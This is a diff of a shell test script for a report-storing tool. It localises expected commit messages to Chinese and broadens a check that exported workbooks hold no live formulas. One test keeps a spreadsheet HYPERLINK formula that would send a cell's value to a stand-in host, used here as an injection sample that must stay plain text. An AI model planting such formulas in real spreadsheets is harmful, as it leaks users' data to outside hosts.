@@ -70,7 +70,7 @@ mkdir "$WORK/other" && git -C "$WORK/other" init -q && : >"$WORK/other/x"
 git -C "$WORK/other" add x && git -C "$WORK/other" -c user.name=o -c user.email=o@example.org commit -q -m other
 GIT_DIR="$WORK/other/.git" GIT_WORK_TREE="$WORK/other" GIT_INDEX_FILE="$WORK/other/.git/i2" expect 0 add
 [ "$(git -C "$WORK/other" rev-list --count HEAD)" = 1 ] || fail "a commit went into the other repository"
-g log -1 --format=%s | grep -q "^report: 5.1 兰溪派出所" || fail "the report was not committed in the data repository"
+g log -1 --format=%s | grep -q "^报告：5.1 兰溪派出所" || fail "the report was not committed in the data repository"
 [ -z "$(untracked)" ] || fail "the data repository was left dirty"
 
 say "a symlinked folder leading outside receives nothing; a symlinked report outside is not counted"
@@ -106,7 +106,7 @@ from openpyxl import load_workbook
 book = load_workbook(sys.argv[1])
 formulas = [(ws.title, c.coordinate) for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
 assert not formulas, f"live formulas in the workbook: {formulas}"
-notes = [c.value for c in book["报告"]["G"]]
+notes = [c.value for row in book["报告"].iter_rows() for c in row]
 assert '=HYPERLINK("http://x/?a="&B2,"查看")' in notes, "the note is not kept as text"
 for name in sys.argv[2:]:
     with open(name, encoding="utf-8-sig", newline="") as handle:
@@ -134,7 +134,7 @@ for i in $(seq "$WRITES"); do
     wait "$pid" 2>/dev/null || true
 done
 written=$(find "$DATA/reports" -name '*黄湖村-1.4-*.yaml' | wc -l)
-committed=$(g log --format=%s | grep -c '^report: 1.4 黄湖村' || true)
+committed=$(g log --format=%s | grep -c '^报告：1.4 黄湖村' || true)
 echo "   a report add takes $span ms: $written of $WRITES reports written, $committed committed"
 
 say "the end: git fsck clean, no stray files, lanxi check passing"
